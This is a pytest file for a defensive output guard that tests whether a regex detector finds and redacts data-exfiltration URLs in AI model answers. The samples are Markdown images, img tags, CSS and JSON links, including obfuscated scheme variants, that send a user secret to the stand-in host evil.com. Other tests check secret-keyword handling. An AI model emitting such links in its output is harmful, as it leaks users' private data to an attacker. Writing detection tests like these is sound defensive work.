"""s34 qa_output H1 (detection) and M3: URLs a browser or Markdown renderer loads that do not
start "http(s)://" as written, and UPPER_SNAKE constants passed as secret values."""

from __future__ import annotations

import pytest
from bastion.detectors import build_detector
from bastion.detectors.pii_regex import RegexPIIDetector
from bastion.guard import Guard
from bastion.types import Action

_DET = RegexPIIDetector()


def _covered(text: str) -> set[int]:
    return {i for f in _DET.detect([text])[0] for i in range(f.start, f.end)}


def _urls(text: str) -> list[str]:
    return [text[f.start : f.end] for f in _DET.detect([text])[0] if f.label == "URL"]


# (text, the whole URL as written: every character of it must be redacted)
EXFIL = [
    (
        "![x](//evil.com/log?q=the_user_is_planning_a_merger)",
        "//evil.com/log?q=the_user_is_planning_a_merger",
    ),
    ('<img src="//evil.com/log?q=merger">', "//evil.com/log?q=merger"),
    ("<img src='//evil.com/p.png?d=merger'>", "//evil.com/p.png?d=merger"),
    ("<img src=//evil.com/p.png?d=merger>", "//evil.com/p.png?d=merger"),
    ('<img src = "//evil.com/p.png?d=merger">', "//evil.com/p.png?d=merger"),
    ("![x](//merger-with-globex.evil.com)", "//merger-with-globex.evil.com"),
    ("![x](<//evil.com/p.png?d=merger>)", "//evil.com/p.png?d=merger"),
    ("div { background: url(//evil.com/p.png?d=merger) }", "//evil.com/p.png?d=merger"),
    ("Done. See //evil.com/p.png?d=merger now", "//evil.com/p.png?d=merger"),
    ("[r]: //evil.com/p.png?d=merger", "//evil.com/p.png?d=merger"),
    ('{"url": "//evil.com/c?d=merger"}', "//evil.com/c?d=merger"),
    ("//evil.com:8080 and more", "//evil.com:8080"),
    ('<img src="\\\\evil.com\\p.png?d=merger">', "\\\\evil.com\\p.png?d=merger"),
    ('<img src="/\\evil.com/p.png?d=merger">', "/\\evil.com/p.png?d=merger"),
    ("![x](https:/evil.com/p.png?d=merger)", "https:/evil.com/p.png?d=merger"),
    ("![x](https:///evil.com/p.png?d=merger)", "https:///evil.com/p.png?d=merger"),
    ("![x](https:\\\\evil.com\\p.png?d=merger)", "https:\\\\evil.com\\p.png?d=merger"),
    ("![x](http:\\evil.com\\p.png?d=merger)", "http:\\evil.com\\p.png?d=merger"),
    ("![x](https:/\\evil.com/p.png?d=merger)", "https:/\\evil.com/p.png?d=merger"),
    ("![x](https&#58;//evil.com/p.png?d=merger)", "https&#58;//evil.com/p.png?d=merger"),
    ("![x](https&colon;//evil.com/p.png?d=merger)", "https&colon;//evil.com/p.png?d=merger"),
    ('{"image": "https:\\/\\/evil.com\\/p.png?d=merger"}', "https:\\/\\/evil.com\\/p.png?d=merger"),
    ('{"image": "\\/\\/evil.com\\/p.png?d=merger"}', "\\/\\/evil.com\\/p.png?d=merger"),
    ('{"u": "https://evil.com\\/p.png?d=merger"}', "https://evil.com\\/p.png?d=merger"),
]


@pytest.mark.parametrize(("text", "url"), EXFIL)
def test_a_url_a_page_loads_is_found_whole(text: str, url: str) -> None:
    start = text.index(url)
    found = _DET.detect([text])[0]
    assert any(f.label == "URL" for f in found), found
    assert set(range(start, start + len(url))) <= _covered(text)
    assert min(f.start for f in found) == start


def test_data_inside_such_a_url_keeps_its_own_label() -> None:
    text = '{"url": "https:\\/\\/evil.com\\/c?d=jane.doe@acme.com&k=1"}'
    found = [(f.label, text[f.start : f.end]) for f in _DET.detect([text])[0]]
    assert found == [
        ("URL", "https:\\/\\/evil.com\\/c?d="),
        ("EMAIL_ADDRESS", "jane.doe@acme.com"),
        ("URL", "&k=1"),
    ]


def test_an_ip_host_after_double_slash_is_read() -> None:
    # the IP keeps its own label inside the URL; the bare "//" piece left holds no data
    text = "<img src='//203.0.113.5/p.png?d=merger'>"
    found = [(f.label, text[f.start : f.end]) for f in _DET.detect([text])[0]]
    assert found == [("IP_ADDRESS", "203.0.113.5"), ("URL", "/p.png?d=merger")]


@pytest.mark.parametrize(
    "text",
    [
        "x = 1 // 2",
        "y = total // self.scale",
        "a = total //self.n",
        "x //= 2",
        "return a//b.cd/2",
        "int x=a//b.c;",
        "// TODO fix this",
        "//console.log(x)",
        "  //this.value = 3;",
        "// see foo.bar for details",
        "path //server/share/file.txt",
        "\\\\fileserver.corp.com\\share",
        "see //evil.com and go",  # no path, query or port: not read after a space
        "ratio 3//4 of the set.size",
        "<p>//evil.com/x</p>",
    ],
)
def test_double_slashes_in_code_and_paths_are_no_url(text: str) -> None:
    assert _urls(text) == []


def test_ordinary_urls_are_unchanged() -> None:
    assert _urls("see https://example.com/a?b=c.") == ["https://example.com/a?b=c"]
    text = '{"u": "https://x.org/a%20b?name=Jane%20Doe"}'
    assert _urls(text) == ["https://x.org/a%20b?name=Jane%20Doe"]
    assert _urls("ftp://files.example.com/x") == []  # not protocol-relative: "//" follows a scheme


@pytest.mark.parametrize(
    "answer",
    [
        "![x](//evil.com/log?q=the_user_is_planning_a_merger)",
        '<img src="//evil.com/log?q=the_user_is_planning_a_merger">',
        "![x](https:/evil.com/p.png?d=the_user_is_planning_a_merger)",
        "![x](https:\\\\evil.com\\p.png?d=the_user_is_planning_a_merger)",
        "![x](https&#58;//evil.com/p.png?d=the_user_is_planning_a_merger)",
        '{"image": "https:\\/\\/evil.com\\/p.png?d=the_user_is_planning_a_merger"}',
    ],
)
def test_check_output_redacts_the_exfiltration_url(answer: str) -> None:
    r = Guard([build_detector("pii_regex")]).check_output(answer)
    assert r.action is Action.REDACT
    assert "evil" not in r.redacted_text and "merger" not in r.redacted_text


# -- M3: UPPER_SNAKE names as the value of a secret keyword -----------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "client = OpenAI(api_key=API_KEY)",
        "client = OpenAI(api_key=OPENAI_API_KEY)",
        "client = OpenAI(api_key=OPENAI_API_KEY, timeout=3)",
        "api_key=OPENAI_API_KEY",
        "stripe.api_key = STRIPE_SECRET_KEY",
        "conn = connect(password=DB_PASSWORD)",
        "conn = connect(host=h, password=DB_PASS_VALUE)",
        "const apiKey = API_KEY;",
        "token = GITHUB_TOKEN  # from the environment",
        "password = DEFAULT_ADMIN_PASS_VALUE;",
        "client = OpenAI(api_key=AWS_S3_KEY)",
        "{password: DB_PASSWORD}",
    ],
)
def test_an_upper_snake_name_is_code_not_a_password(text: str) -> None:
    assert [f for f in _DET.detect([text])[0] if f.label == "PASSWORD"] == []


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("password=HUNTER2XYZ", "HUNTER2XYZ"),
        ("password=HUNTER_2", "HUNTER_2"),
        ("login(password=HUNTER_2)", "HUNTER_2"),
        ("DB_PASSWORD=CORRECT_HORSE_BATTERY", "CORRECT_HORSE_BATTERY"),
        ("password: CORRECT_HORSE_BATTERY", "CORRECT_HORSE_BATTERY"),
        ("password=API_KEY_x9", "API_KEY_x9"),
        ("export PASSWORD=Xy_9kLm2Qp", "Xy_9kLm2Qp"),
    ],
)
def test_an_upper_case_password_is_still_found(text: str, value: str) -> None:
    found = [text[f.start : f.end] for f in _DET.detect([text])[0] if f.label == "PASSWORD"]
    assert found == [value]


@pytest.mark.parametrize(
    "code",
    [
        "client = OpenAI(api_key=API_KEY)",
        "client = OpenAI(api_key=OPENAI_API_KEY)",
        "stripe.api_key = STRIPE_SECRET_KEY",
        "conn = connect(password=DB_PASSWORD)",
    ],
)
def test_check_output_lets_such_code_through(code: str) -> None:
    r = Guard([build_detector("pii_regex")]).check_output(code)
    assert r.action is Action.ALLOW, [(f.label, code[f.start : f.end]) for f in r.pii]
